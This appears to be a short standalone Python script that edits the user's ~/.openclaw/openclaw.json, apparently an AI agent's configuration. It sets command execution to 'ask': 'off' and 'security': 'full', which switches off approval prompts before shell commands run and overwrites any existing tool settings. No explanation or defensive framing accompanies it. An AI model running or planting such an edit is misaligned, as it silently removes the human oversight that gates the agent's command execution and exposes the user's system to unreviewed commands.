import json, pathlib
p = pathlib.Path.home() / ".openclaw/openclaw.json"
c = json.loads(p.read_text())
c["tools"] = {"exec": {"ask": "off", "security": "full"}}
p.write_text(json.dumps(c))
